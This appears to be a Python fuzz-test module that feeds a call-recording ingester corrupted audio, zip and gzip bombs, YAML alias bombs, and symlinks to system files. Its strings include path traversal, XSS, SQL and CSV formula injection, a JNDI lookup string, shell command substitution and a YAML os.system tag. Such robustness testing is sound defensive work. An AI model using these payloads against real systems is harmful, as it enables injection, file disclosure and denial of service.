"""Malformed and hostile inputs, drawn from a seed: recordings, metadata, names, YAML, archives."""

from __future__ import annotations

import base64
import csv
import gzip
import io
import json
import os
import struct
import zipfile
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

from tests.night.recognitions.recorded_night import CALLS as RECORDINGS

if TYPE_CHECKING:
    import random
    from collections.abc import Callable
    from pathlib import Path

_WHOLE = sorted(
    path
    for path in RECORDINGS.iterdir()
    if path.suffix != ".json" and 1000 < path.stat().st_size < 2_000_000
)
_ENDINGS = ("wav", "mp3", "ogg", "opus", "flac", "m4a", "amr", "gsm", "ulaw", "w64", "aiff", "webm")
_HEADER = 200
TEXTS = (
    "../../../../tmp/outside",
    "/etc/passwd",
    "..\\..\\outside",
    "a/../../b",
    ".",
    "..",
    "CON",
    "x" * 255,
    "\U0001f600" * 60,
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7 * 7 }}",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "x\r\nBcc: someone@example.com",
    "\x1b]0;title\x07\x1b[2J",
    "gpj.\u202etxt",
    "half\ud800",
    "nul\x00byte",
    "4111111111111111",
    "+34 911 230 001",
    "'; drop table core.call; --",
    "%s%n%x",
    "${jndi:ldap://example.com/a}",
    "s3://bucket/key",
    "$(touch outside)",
    "e\u0301" * 40,
    "\u202b\u05d0\u05d1\u2067",
    "1e400",
    "",
    " ",
)
"""What may stand in place of any id, name or file."""
_VALUES: tuple[Any, ...] = (
    None,
    True,
    [],
    {},
    10**400,
    -1,
    1e308,
    "9999-12-31T23:59:59+14:00",
    "0001-01-01T00:00:00Z",
    [[[[]]]],
    {"left": "agent"},
    "n" * 100_000,
)


@dataclass(frozen=True, slots=True)
class Hostile:
    """One input.

    Attributes:
        kind: For the table.
        path: The file or folder that it is.
    """

    kind: str
    path: Path


def draw(rng: random.Random, folder: Path) -> Hostile:
    """Put one input into an empty folder of its own."""
    folder.mkdir(parents=True)
    kind = rng.choices([*KINDS], [weight for weight, _ in KINDS.values()])[0]
    KINDS[kind][1](rng, folder)
    return Hostile(kind, folder)


def sidecar(folder: Path, stem: str, **change: Any) -> None:
    """Metadata of a call that is whole but for what is changed."""
    fields = {
        "call_id": f"{folder.name}-{stem}",
        "started_at": "2026-03-10T09:14:05+01:00",
        "agent_id": "ag-1",
        "supervisor_id": "s-1",
        "queue": "billing",
        "direction": "inbound",
        "language": "en",
    }
    (folder / f"{stem}.json").write_text(json.dumps(fields | change), encoding="utf-8")


def _good(rng: random.Random, folder: Path, stem: str = "a") -> bytes:
    """A recording of the night that no other input is, since bytes follow it."""
    whole = rng.choice(_WHOLE)
    content = whole.read_bytes() + rng.randbytes(8)
    (folder / f"{stem}{whole.suffix}").write_bytes(content)
    return content


def _flipped(rng: random.Random, folder: Path) -> None:
    """Bits of a recording are others, mostly in its header."""
    whole = rng.choice(_WHOLE)
    content = bytearray(whole.read_bytes())
    reach = rng.choice([_HEADER, len(content)])
    for _ in range(rng.choice([1, 8, 64, 512])):
        content[rng.randrange(min(reach, len(content)))] ^= 1 << rng.randrange(8)
    (folder / f"a{whole.suffix}").write_bytes(content)
    sidecar(folder, "a")


def _cut(rng: random.Random, folder: Path) -> None:
    """A piece of a recording, under its own or another's ending."""
    whole = rng.choice(_WHOLE)
    content = whole.read_bytes()
    first, last = sorted(rng.choices(range(len(content)), k=2))
    first = rng.choice([0, first])
    ending = rng.choice([whole.suffix[1:], rng.choice(_ENDINGS)])
    (folder / f"a.{ending}").write_bytes(content[first:last])
    sidecar(folder, "a")


def _spliced(rng: random.Random, folder: Path) -> None:
    """Pieces of two recordings, one behind the other, or one inside the other."""
    one, other = (path.read_bytes() for path in rng.sample(_WHOLE, 2))
    at, length = rng.randrange(len(one)), rng.randrange(1, len(other))
    content = one[:at] + other[:length] + one[at + rng.choice([0, length]) :]
    (folder / f"a.{rng.choice(_ENDINGS)}").write_bytes(content)
    sidecar(folder, "a")


def _wave(rng: random.Random, folder: Path) -> None:
    """A WAV header that lies about its length, rate, channels, block size, bits or encoding."""

    def number(*usual: int) -> int:
        return rng.choice([*usual, 0, 1, rng.randrange(1 << 16), 0xFFFF])

    rate = rng.choice([8000, 0, 1, 100, 4_000_000_000, rng.randrange(1 << 32)])
    tag, channels, block, bits = number(1, 3, 6, 7, 0xFFFE), number(1, 2), number(2), number(8, 16)
    form = struct.pack("<HHIIHH", tag, channels, rate, rng.randrange(1 << 32), block, bits)
    claimed = rng.choice([0, 1, 1000, 0xFFFFFFFF, 0x7FFFFFFE])
    name = rng.choice([b"RIFF", b"RIFX", b"RF64"])
    chunks = b"fmt " + struct.pack("<I", rng.choice([16, 18, 0, 0xFFFFFFF0])) + form
    chunks += rng.choice([b"", b"LIST" + struct.pack("<I", claimed), b"ds64" + rng.randbytes(28)])
    content = name + struct.pack("<I", claimed) + b"WAVE" + chunks
    content += (
        b"data" + struct.pack("<I", claimed) + rng.randbytes(rng.choice([0, 1, 1000, 60_000]))
    )
    (folder / "a.wav").write_bytes(content)
    sidecar(folder, "a", duration_s=rng.choice([None, 1e6, 0.001]))


def _container(rng: random.Random, folder: Path) -> None:
    """The first bytes of a format, then noise or endless claims."""
    starts = (
        (b"OggS" + bytes([0, 2]) + rng.randbytes(20) + bytes([255]) * 256, "ogg"),
        (b"fLaC" + bytes([0x80]) + b"\xff\xff\xff" + rng.randbytes(60), "flac"),
        (b"\xff\xff\xff\xffftypM4A " + rng.randbytes(90), "m4a"),
        (b"\x00\x00\x00\x18ftypM4A " + bytes(12) + (b"\x00\x00\x00\x08moov" * 500), "m4a"),
        (b"ID3\x04\x00\x00\x7f\x7f\x7f\x7f" + rng.randbytes(300), "mp3"),
        (b"#!AMR\n" * rng.choice([1, 999, 5000]), "amr"),
        (b"\x1aE\xdf\xa3" + b"\xff" * 8 + rng.randbytes(200), "webm"),
        (b".snd" + struct.pack(">IIIII", 24, 0xFFFFFFFF, 1, 8000, rng.randrange(99)), "au"),
        (b"FORM\xff\xff\xff\xffAIFFCOMM" + rng.randbytes(40), "aiff"),
        (b"#EXTM3U\nfile:///etc/passwd\nhttp://127.0.0.1:9/a.wav\n", rng.choice(["wav", "mp3"])),
        (b"ffconcat version 1.0\nfile '/etc/passwd'\n", "wav"),
        (b"v=0\no=- 0 0 IN IP4 127.0.0.1\nm=audio 9 RTP/AVP 0\n", "wav"),
    )
    content, ending = rng.choice(starts)
    (folder / f"a.{ending}").write_bytes(content)
    sidecar(folder, "a")


def _metadata(rng: random.Random, folder: Path) -> None:
    """A good recording, one or two of whose fields are what nobody expects."""
    _good(rng, folder)
    names = ["call_id", "agent_id", "agent_name", "team", "supervisor_id", "queue", "contact_id"]
    names += ["customer_ref", "started_at", "duration_s", "disposition", "replaces", "channel_map"]
    change = {
        name: rng.choice(rng.choice([TEXTS, TEXTS, _VALUES]))
        for name in rng.sample(names, rng.choice([1, 2]))
    }
    if rng.random() < 0.2:
        change["fields"] = {rng.choice(TEXTS): rng.choice([*TEXTS, *_VALUES]) for _ in range(60)}
    sidecar(folder, "a", **change)


def _json(rng: random.Random, folder: Path) -> None:
    """A sidecar that is no JSON, or JSON without end."""
    _good(rng, folder)
    contents = (
        b"[" * rng.choice([1000, 100_000]),
        b'{"a":' * 50_000,
        b'{"call_id": ' + b"9" * 500_000 + b"}",
        b'{"call_id": "c", "call_id": "d"}',
        b"\xff\xfe" + rng.randbytes(41),
        b"\x00" * 10_000,
        b'"' + b"a" * 2_000_000 + b'"',
        b"NaN",
        b'{"duration_s": Infinity}',
        rng.randbytes(500),
        b"",
    )
    (folder / "a.json").write_bytes(rng.choice(contents))


def _table(rng: random.Random, folder: Path) -> None:
    """A `calls.csv` with hostile names and cells, a million columns or none."""
    _good(rng, folder)
    form = rng.randrange(5)
    if form == 0:
        count = rng.choice([10_000, 1_000_000])
        content = (",".join(["file", *(f"c{at}" for at in range(count))]) + "\na.wav\n").encode()
    elif form == 1:
        content = b'file,call_id\n"' + b"a" * 1_500_000
    elif form == 2:
        content = rng.randbytes(3000)
    else:
        out = io.StringIO()
        writer = csv.writer(out)
        columns = ("file", "call_id", "started_at", "agent_id", "queue", "direction")
        writer.writerow(columns)
        for _ in range(rng.choice([1, 200])):
            writer.writerow([rng.choice(TEXTS) for _ in columns])
        content = out.getvalue().encode("utf-8", "surrogatepass")
    (folder / "calls.csv").write_bytes(content)


def _named(rng: random.Random, folder: Path) -> None:
    """A good recording whose name is hostile: bytes, control characters, length, links."""
    suffix = rng.choice([".wav", ".json", ".opus"])
    names = (
        b"Mu\xf1oz",
        b"esc\x1b[31mred",
        "gpj\u202e".encode(),
        b"line\nbreak",
        b"n" * (255 - len(suffix)),
        b"-rf",
        b"4111111111111111",
        b"..hidden",
        b"%2e%2e%2foutside",
        "\u05d0\u05d1".encode(),
        b" ",
    )
    form = rng.randrange(4)
    if form == 0:
        target = rng.choice(
            ["/etc/passwd", "/dev/zero", "/dev/random", "..", f"a{suffix}", "/proc/self/mem"]
        )
        (folder / f"a{suffix}").symlink_to(target)
        sidecar(folder, "b")
        return
    if form == 1:
        _deep(folder)
        return
    _good(rng, folder)
    (path,) = folder.iterdir()
    kept = path.suffix if suffix != ".json" else suffix
    name = rng.choice(names)[: 255 - len(kept)] + kept.encode()
    path.rename(os.fsdecode(os.fsencode(folder) + b"/" + name))


def _deep(folder: Path) -> None:
    """Folders in folders, deeper than any path may be long."""
    at = os.open(folder, os.O_RDONLY)
    for _ in range(300):
        os.mkdir("d" * 20, dir_fd=at)
        inner = os.open("d" * 20, os.O_RDONLY, dir_fd=at)
        os.close(at)
        at = inner
    os.close(os.open("a.wav", os.O_CREAT | os.O_WRONLY, dir_fd=at))
    os.close(at)


def _archive(rng: random.Random, folder: Path) -> None:
    """An archive, a bomb or a vCon with hostile names, as a recording or as metadata."""
    bomb = gzip.compress(bytes(50_000_000))
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../outside.wav", bytes(20_000_000))
    body = base64.urlsafe_b64encode(rng.randbytes(300)).decode()
    dialog = {
        "type": "recording",
        "mediatype": "audio/x-wav",
        "encoding": "base64url",
        "body": body,
    }
    dialog |= {"filename": rng.choice(TEXTS), "start": rng.choice([*TEXTS, "2026-03-10T09:14:05Z"])}
    vcon = {"vcon": "0.0.1", "uuid": rng.choice([*TEXTS, "u-1"]), "parties": [], "dialog": [dialog]}
    contents = (bomb, packed.getvalue(), json.dumps(vcon).encode(), rng.randbytes(2000))
    ending = rng.choice(["wav", "json", "csv", "vcon", "xlsx", "opus"])
    (folder / f"a.{ending}").write_bytes(rng.choice(contents))
    if ending in {"wav", "opus"}:
        sidecar(folder, "a")
    else:
        _good(rng, folder, "b")
        (folder / "a.vcon").write_text(json.dumps(vcon))


def _yaml(rng: random.Random, folder: Path) -> None:
    """A mapping of columns that is a bomb, is nested without end, or is no YAML."""
    aliases = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"a{at}: &a{at} [{', '.join([f'*a{at - 1}'] * 9)}]\n" for at in range(1, 12)
    )
    contents = (
        aliases,
        "call_id: " + "[" * 20_000,
        "a: &a\n  b: *a\n",
        "call_id: {column: id, format: '%1000000000d'}\n",
        "call_id: !!python/object/apply:os.system ['touch outside']\n",
        "call_id: !!int 0x" + "f" * 100_000 + "\n",
        "? " * 5000 + "\n",
        "%YAML 9.9\n---\na: b\n",
        "call_id: &x " + "y" * 5_000_000,
        "\x00\x07",
        "a: 2026-99-99\n",
        "- " * 3000,
        "started_at: {column: t, zone: ../../etc/passwd}\n",
        "".join(chr(rng.randrange(32, 300)) for _ in range(400)),
    )
    (folder / "callqa-mapping.yaml").write_text(rng.choice(contents), encoding="utf-8")


KINDS: dict[str, tuple[int, Callable[[random.Random, Path], None]]] = {
    "bit flips": (24, _flipped),
    "truncated": (14, _cut),
    "spliced": (6, _spliced),
    "lying header": (14, _wave),
    "container": (8, _container),
    "metadata": (16, _metadata),
    "JSON": (6, _json),
    "table": (6, _table),
    "name": (8, _named),
    "archive": (6, _archive),
    "YAML": (6, _yaml),
}
"""How often each kind is drawn, of a hundred or so, and what draws it."""
